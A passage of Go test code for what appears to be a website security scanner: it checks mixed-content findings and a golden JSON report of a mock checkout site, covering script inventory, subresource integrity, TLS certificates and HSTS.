		s.net.ports["127.0.0.1:80"] = httpSrv.Listener.Addr().String()
		s.net.ports["127.0.0.1:443"] = imgSrv.Listener.Addr().String()
		return s, plain
	}
	for _, level := range []string{"all", "scripts"} {
		t.Run(level, func(t *testing.T) {
			t.Parallel()
			s, plain := build(t)
			opt := s.options("/mixed.html")
			opt.Crawl.CheckResources = level
			opt.Crawl.Resolve = append(opt.Crawl.Resolve, "img.shop.test:80:127.0.0.1", "img.shop.test:443:127.0.0.1")
			rep := payMustRun(t, opt)
			pg := s.origin("www.shop.test") + "/mixed.html"
			paySame(t, "mixed content", payFindings(rep, "mixed-content-upgradeable", "mixed-content-blockable"), []payFID{
				{"mixed-content-upgradeable", "warning", pg, "http://img.shop.test/yes.png"},
				{"mixed-content-upgradeable", "warning", pg, "http://img.shop.test/no.png"},
				{"mixed-content-upgradeable", "warning", pg, "http://img.shop.test/soft404.png"},
			})
			want := map[string]string{"http://img.shop.test/yes.png": "true", "http://img.shop.test/no.png": "false", "http://img.shop.test/soft404.png": "false"}
			if level != "all" {
				for u := range want {
					want[u] = "absent"
				}
			}
			for u, w := range want {
				f := payFindingOf(t, rep, "mixed-content-upgradeable", pg, u)
				if got := payBool(f.HTTPSAvailable); got != w {
					t.Errorf("%s: https_available %s, want %s", u, got, w)
				}
			}
			var buf bytes.Buffer
			jw, _ := report.New("json")
			if err := jw.Write(&buf, rep); err != nil {
				t.Fatal(err)
			}
			n := strings.Count(buf.String(), `"https_available"`)
			if level == "all" && (n != 3 || !strings.Contains(buf.String(), `"https_available": true`) || !strings.Contains(buf.String(), `"https_available": false`)) {
				t.Errorf("JSON: want https_available true and false, got %d field(s)", n)
			}
			if level != "all" && n != 0 {
				t.Errorf("JSON with --check-resources %s: https_available must be absent, found %d", level, n)
			}
			// With "all" the http images were requested; with "scripts" padlock requests none.
			got := plain.requests("HEAD", "img.shop.test/yes.png")
			if level == "all" && got != 1 || level != "all" && got != 0 {
				t.Errorf("--check-resources %s: http://img.shop.test/yes.png requested %d times with HEAD", level, got)
			}
		})
	}
}

// ---------------------------------------------------------------------------------------------
// 6. Golden JSON report of a payment site.

const payGoldenCheckout = `<!doctype html>
<html><head><title>Checkout</title>
<script src="{{cdn}}/widget.js" integrity="{{widget_sri}}" crossorigin="anonymous"></script>
<script src="{{paytools}}/sdk.js"></script>
</head><body>
<h1>Checkout</h1>
<form method="post" action="/pay">
<input name="cc-name" autocomplete="cc-name">
<input name="cardnumber" autocomplete="cc-number">
<input name="exp" autocomplete="cc-exp">
<input name="cvc" autocomplete="cc-csc">
<button type="submit" onclick="return validateCard(this.form)">Pay</button>
</form>
<script>window.dataLayer = window.dataLayer || []; dataLayer.push({page: "checkout"});</script>
</body></html>
`

const (
	payGoldenWidget = "/* vendor widget 2.4.1 */\nwindow.VendorWidget = {init: function () {}};\n"
	payGoldenSDK    = "/* paytools sdk */\nwindow.PayTools = {mount: function () {}};\n"
	payGoldenApp    = "/* shop app */\nfunction validateCard(f) { return true; }\n"
)

var (
	payCertDateRE = regexp.MustCompile(`"(not_before|not_after)": "[^"]*"`)
)

// paymentGoldenJSON crawls the payment site and returns its normalised JSON report.
func paymentGoldenJSON(t *testing.T) []byte {
	t.Helper()
	v := newPayVHosts()
	hsts := "Strict-Transport-Security: max-age=31536000; includeSubDomains"
	v.add("www.shop.test/", payHTML(`<!doctype html>
<html><head><title>Shop</title>
<script src="/app.js"></script>
</head><body>
<a href="/checkout">Checkout</a>
</body></html>
`, hsts))
	v.add("www.shop.test/checkout", payHTML(payGoldenCheckout, hsts))
	v.add("www.shop.test/app.js", payJS(payGoldenApp))
	v.add("cdn.vendor.test/widget.js", payJS(payGoldenWidget, "Access-Control-Allow-Origin: *"))
	v.add("js.paytools.test/sdk.js", payJS(payGoldenSDK))
	s := startPayShop(t, v)
	v.vars["widget_sri"] = paySRI384(payGoldenWidget)
	opt := s.options()
	opt.Crawl.Concurrency = 1 // one request at a time: a repeatable order
	opt.Rules.AllowScript = []string{"*.paytools.test"}
	rep := payMustRun(t, opt)
	w, err := report.New("json")
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := w.Write(&buf, rep); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	out = regexp.MustCompile(`:`+s.port+`\b`).ReplaceAllString(out, ":PORT")
	out = loopbackPortRE.ReplaceAllString(out, "127.0.0.1:PORT")
	out = cipherRE.ReplaceAllString(out, `"cipher": "(normalised)"`)
	out = payCertDateRE.ReplaceAllString(out, `"$1": "(certificate date)"`)
	return []byte(out)
}

// TestPaymentGolden compares the JSON report of a small payment site (a checkout page with
// card fields, two third-party scripts, an inline script and an onclick handler) with
// testdata/golden/payment.json. Run go test ./scan -run TestPaymentGolden -update to rewrite it.
func TestPaymentGolden(t *testing.T) {
	t.Parallel()
	got := paymentGoldenJSON(t)
	file := filepath.Join("..", "testdata", "golden", "payment.json")
	if *updateGolden {
		if err := os.WriteFile(file, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatalf("%v (run go test ./scan -run TestPaymentGolden -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("the JSON report of the payment site differs from %s (run with -update if the change is intended):\n%s",
			file, lineDiff(string(want), string(got)))
	}

	// What the golden file must show, checked here too so a careless -update cannot lose it.
	var rep report.Report
	parsable := strings.ReplaceAll(string(got), `"(certificate date)"`, `"0001-01-01T00:00:00Z"`)
	if err := json.Unmarshal([]byte(parsable), &rep); err != nil {
		t.Fatal(err)
	}
	checkout := payPage(t, &rep, "https://www.shop.test:PORT/checkout")
	if !checkout.Payment || len(checkout.PaymentSignals) != 4 {
		t.Errorf("checkout: payment %v signals %q, want true and 4 signals", checkout.Payment, checkout.PaymentSignals)
	}
	if p := payPage(t, &rep, "https://www.shop.test:PORT/"); p.Payment {
		t.Errorf("the home page is not a payment page")
	}
	inline := `window.dataLayer = window.dataLayer || []; dataLayer.push({page: "checkout"});`
	handler := `return validateCard(this.form)`
	wantScripts := []string{
		fmt.Sprintf("external https://cdn.vendor.test:PORT/widget.js third allowed=%q integrity=%t valid=true sha=%s pages=1 payment=1", "", true, payHex(payGoldenWidget)),
		fmt.Sprintf("external https://js.paytools.test:PORT/sdk.js third allowed=%q integrity=%t valid=absent sha=%s pages=1 payment=1", "*.paytools.test", false, payHex(payGoldenSDK)),
		fmt.Sprintf("external https://www.shop.test:PORT/app.js first allowed=%q integrity=%t valid=absent sha=%s pages=1 payment=0", "", false, payHex(payGoldenApp)),
		fmt.Sprintf("handler  first allowed=%q integrity=%t valid=absent sha=%s pages=1 payment=1", "", false, payHex(handler)),
		fmt.Sprintf("inline  first allowed=%q integrity=%t valid=absent sha=%s pages=1 payment=1", "", false, payHex(inline)),
	}
	var gotScripts []string
	for _, sc := range rep.Scripts {
		gotScripts = append(gotScripts, fmt.Sprintf("%s %s %s allowed=%q integrity=%t valid=%s sha=%s pages=%d payment=%d",
			sc.Kind, sc.URL, sc.Party, sc.AllowedBy, sc.Integrity != "", payBool(sc.IntegrityValid), sc.SHA256, sc.PageCount, len(sc.PaymentPages)))
	}
	slices.Sort(gotScripts)
	slices.Sort(wantScripts)
	if !slices.Equal(gotScripts, wantScripts) {
		t.Errorf("script inventory:\n\tgot  %s\n\twant %s", strings.Join(gotScripts, "\n\t     "), strings.Join(wantScripts, "\n\t     "))
	}
	origins := map[string]report.Origin{}
	for _, o := range rep.Origins {
		origins[o.Origin] = o
	}
	for _, name := range []string{"https://www.shop.test:PORT", "https://cdn.vendor.test:PORT", "https://js.paytools.test:PORT"} {
		o, ok := origins[name]
		if !ok {
			t.Errorf("origin %s missing from the report", name)
			continue
		}
		if o.TLSVersion != "TLS 1.3" || o.LegacyTLS || o.Certificate == nil || o.Certificate.Problem != "" ||
			o.Certificate.Issuer != "CN=padlock test root CA,O=padlock" ||
			o.Certificate.Subject != "CN="+strings.TrimSuffix(strings.TrimPrefix(name, "https://"), ":PORT") {
			t.Errorf("origin %s: %+v (certificate %+v)", name, o, o.Certificate)
		}
	}
	if o := origins["https://www.shop.test:PORT"]; o.HSTS != "max-age=31536000; includeSubDomains" || o.HSTSPages != 2 {
		t.Errorf("site origin HSTS %q on %d pages, want max-age=31536000; includeSubDomains on 2", o.HSTS, o.HSTSPages)
	}
}
